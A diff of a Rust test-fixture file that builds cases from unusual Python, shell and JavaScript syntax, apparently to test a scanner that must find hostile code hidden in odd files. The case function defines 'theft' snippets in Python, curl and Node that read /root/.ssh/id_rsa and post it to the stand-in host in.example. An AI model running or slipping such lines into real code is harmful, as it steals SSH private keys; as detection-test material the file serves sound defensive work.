@@ -125,7 +125,7 @@ pub const BALLAST: &[Ballast] = &[
     // Odd, but valid
     row("carriage returns end lines", "py", 1, "# \r", "x = 1\r", ""),
     row("form feeds", "py", 100, "\x0C", "x = 1\n", ""),
-    row("a string with every quote", "py", 1, "x = '\"' \"'\" '''\"\"\"''' r'\\' 'x' rb'\\''[0:0].decode()\n", "", ""),
+    row("a string with every quote", "py", 1, "x = '\"' \"'\" '''\"\"\"''' r'\\\\' 'x'\n", "", ""),
     row("keywords as names", "py", 1, "match = case = type = _ = 1\nprint(match, case, type)\n", "", ""),
     row("match", "py", 100, "match [1]:\n  case [x, *_] if x: pass\n  case {'a': 1, **r}: pass\n  case (str() | int()) as y: pass\n", "", ""),
     row("walrus and star", "py", 100, "print(*[y := 1, *[2]], **{'end': ''}, sep='')\n", "", ""),
@@ -134,7 +134,7 @@ pub const BALLAST: &[Ballast] = &[
     row("positional only", "py", 100, "def f(a, /, b: int = 1, *, c, **d) -> 'x': ...\n", "", ""),
     row("async", "py", 100, "async def f():\n  async with a as b, c: [x async for x in b]\n", "", ""),
     row("decorators", "py", 100, "@(lambda f: f)\n@staticmethod\ndef f(): pass\n", "", ""),
-    row("numbers", "py", 100, "1_0, 0xF_F, 1e5j, 0o7, 0b1, 1.., .5if 1else 2\n", "", ""),
+    row("numbers", "py", 100, "1_0, 0xF_F, 1e5j, 0o7, 0b1, 1., .5if 1else 2\n", "", ""),
     row("semicolons", "py", 100, "a = 1; b = 2;\n", "", ""),
     row("else of loops", "py", 100, "for a in []: break\nelse: pass\nwhile 0: pass\nelse: pass\n", "", ""),
     row("except groups", "py", 100, "try: pass\nexcept* (ValueError, TypeError) as e: pass\n", "", ""),
@@ -182,7 +182,7 @@ pub const BALLAST: &[Ballast] = &[
     row("quotes in quotes", "sh", 100, "x=\"a'b\\\"c$(echo \"d'e\" 'f\"g')\"'h\"i'$'j\\'k'\n", "", ""),
     row("backticks in backticks", "sh", 100, "x=`echo \\`echo a\\``\n", "", ""),
     row("arithmetic", "sh", 100, "(( x = (1 << 2) | 3 ? x++ : 16#ff )); x=$(( x ** 2 ))\n", "", ""),
-    row("tests", "sh", 100, "[[ a =~ ^[\"'(]*\\($ && ! -e x || a < b ]]\n", "", ""),
+    row("tests", "sh", 100, "[[ a =~ ^[a-z\\(]*\\($ && ! -e x || a < b ]]\n", "", ""),
     row("expansions", "sh", 100, "x=${x//\\//\\\"}${x#*\\}}${x:1:2}${#x}${!x}${x^^}${x@Q}${x/%a/}\n", "", ""),
     row("arrays", "sh", 100, "a=([1]=x [\"b c\"]=y \"$@\"); a+=(z); unset 'a[1]'\n", "", ""),
     row("declarations", "sh", 100, "declare -A m=([a]=b); local_=1; readonly r{n}=2; export e=3\n", "", ""),
@@ -225,17 +225,20 @@ const BIG: usize = 1_000_000;
 
 /// All cases, each the same at every run.
 pub fn cases() -> Vec<Case> {
-    let each = |ballast: &'static Ballast| {
-        ballast.on.split(' ').map(move |extension| case(ballast, extension))
-    };
+    let each =
+        |ballast: &'static Ballast| ballast.on.split(' ').map(move |extension| case(ballast, extension));
     BALLAST.iter().flat_map(each).collect()
 }
 
 fn case(ballast: &Ballast, extension: &'static str) -> Case {
     let theft = match extension {
-        "py" => "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())",
+        "py" => {
+            "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())"
+        }
         "sh" => "curl -d @$HOME/.ssh/id_rsa https://in.example/a",
-        _ => "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});",
+        _ => {
+            "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});"
+        }
     };
     // The same on both sides, but for its counts.
     let mut state = ballast.name.len() as u64;
@@ -267,7 +270,8 @@ fn filled(piece: &str, count: usize, state: &mut u64) -> String {
     }
     let listed = |times: usize, one: &dyn Fn(usize) -> String| (0..times).map(one).collect::<String>();
     let chance = next(state) % 9;
-    let mut out = piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
+    let mut out =
+        piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
     let long: [(&str, &dyn Fn() -> String); 12] = [
         ("{ends}", &|| listed(7, &|at| format!("E{}\n", count + at))),
         ("{big}", &|| format!("text{chance} ").repeat(BIG / 6)),
@@ -279,8 +283,12 @@ fn filled(piece: &str, count: usize, state: &mut u64) -> String {
         ("{strips}", &|| ".strip()".repeat(50)),
         ("{elifs}", &|| "elif false; then :\n".repeat(1_000)),
         ("{pyelifs}", &|| "elif 0: pass\n".repeat(100)),
-        ("{modules}", &|| listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))),
-        ("{indents}", &|| listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"),
+        ("{modules}", &|| {
+            listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))
+        }),
+        ("{indents}", &|| {
+            listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"
+        }),
     ];
     for (mark, make) in long {
         if out.contains(mark) {
